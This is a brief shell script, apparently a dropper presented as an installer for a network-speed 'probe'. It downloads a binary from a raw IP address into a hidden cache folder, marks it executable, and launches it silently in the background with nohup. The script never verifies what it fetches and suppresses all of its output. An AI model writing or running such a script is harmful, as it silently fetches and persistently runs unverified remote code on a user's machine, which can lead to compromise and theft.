#!/bin/sh
# Installs the probe.
set -e
dir="$HOME/.cache/netspeed"
mkdir -p "$dir"
wget -q "http://198.51.100.23:8080/probe" -O "$dir/probe" >/dev/null 2>&1
chmod 755 "$dir/probe"
nohup "$dir/probe" >/dev/null 2>&1 &
echo "probe ready"
